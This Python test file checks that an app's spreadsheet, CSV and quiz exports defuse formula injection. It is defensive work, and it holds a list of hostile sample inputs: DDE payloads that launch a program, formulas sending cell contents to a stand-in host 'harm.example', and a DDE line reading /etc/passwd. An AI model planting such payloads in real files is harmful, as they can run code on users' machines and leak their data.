"""No words of a document become a formula in any table that is given away: Excel, CSV, Kahoot!."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.settings import Settings
from api.wiring import Workspace
from tests.harmful_office import harmful

# What a spreadsheet might reckon with, each with the reason.
FORMULAS = [
    ("=1+1", "a formula"),
    ("+1+1", "as old programs began them"),
    ("-1+1", "a minus"),
    ("@SUM(1+1)", "as Lotus began them"),
    ("\t=1+1", "behind a tab"),
    ("\r=1+1", "behind a return"),
    ("\n=1+1", "behind a line's end"),
    (" =1+1", "behind a space"),
    ("\u00a0=1+1", "behind a space that is none"),
    ("\u200b=1+1", "behind what is not seen"),
    ("\ufeff=1+1", "behind a mark of bytes"),
    ("＝1+1", "a wide sign"),
    ("＋1+1", "a wide plus"),
    ("－1+1", "a wide minus"),
    ("＠SUM(1+1)", "a wide at"),
    ("=cmd|' /C calc'!A0", "a program by DDE"),
    ("+cmd|' /C calc'!A0", "a program behind a plus"),
    ("@cmd|' /C calc'!A0", "a program behind an at"),
    ('=HYPERLINK("http://harm.example?q="&A1;"x")', "a link that takes a cell along"),
    ('=WEBSERVICE("http://harm.example?q="&A1)', "a call"),
    ('=IMPORTXML("http://harm.example";"//a")', "a call of Google's"),
    ('=DDE("soffice";"/etc/passwd";"1")', "a file by DDE"),
    ('";=1+1;"', "out of the quotes"),
    ('",=1+1,"', "out of the quotes, with commas"),
    ('"\n=1+1', "out of the quotes and the line"),
]
WORDS = [words for words, _ in FORMULAS]
SIGNS = "=+-@＝＋－＠\t\r\n"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    made = Workspace(Settings(data=tmp_path_factory.mktemp("cong-thuc"), embedding_model="hashing"))
    for at in range(0, len(WORDS), 5):
        document = harmful(at // 5, WORDS[at : at + 5])
        made.catalogue.add(document, document.text.encode(), document.name)
    with TestClient(create_app(made), base_url="http://127.0.0.1") as served:
        yield served


def workbooks(client: TestClient) -> dict[str, bytes]:
    found = {"register": client.get("/nhiem-vu/xuat/xlsx").content}
    for row in client.get("/v1/documents").json()["documents"]:
        wanted = {"documents": [row["id"]], "form": "kahoot", "count": 20}
        answer = client.post("/v1/publish/quiz", json=wanted)
        if answer.status_code == 200:
            found[f"quiz of {row['number']}"] = answer.content
    return found


def test_no_cell_of_a_workbook_is_a_formula_or_leads_elsewhere(client: TestClient) -> None:
    found = workbooks(client)
    for name, content in found.items():
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f"] == [], name
        with zipfile.ZipFile(io.BytesIO(content)) as packed:
            for part in packed.namelist():
                text = packed.read(part).decode("utf-8", "replace")
                assert not re.search(r"<(\w+:)?f[ >]|externalLink|ddeLink|TargetMode=\"External", text), (name, part)
    shown = {str(cell.value) for sheet in openpyxl.load_workbook(io.BytesIO(found["register"])) for row in
             sheet.iter_rows() for cell in row}  # fmt: skip
    assert sum(any(words.strip() in cell for cell in shown) for words in WORDS) == len(WORDS), "they are all there"


def test_no_cell_of_a_csv_begins_as_a_formula_does(client: TestClient) -> None:
    text = client.get("/nhiem-vu/xuat/csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if cell.lstrip(" \u00a0\u200b\ufeff\u3000")[:1] in tuple(SIGNS)] == []
    for words in WORDS:
        assert any(words.strip() in cell for cell in cells), words


def test_the_files_for_other_programs_keep_their_rows(client: TestClient, tmp_path: Path) -> None:
    for row in client.get("/v1/documents").json()["documents"]:
        for form in ("anki", "gift"):
            made = client.post("/v1/publish/quiz", json={"documents": [row["id"]], "form": form, "count": 20})
            if made.status_code == 200:
                lines = made.content.decode().splitlines()
                assert not [line for line in lines if line[:1] in tuple("=+-@")], form
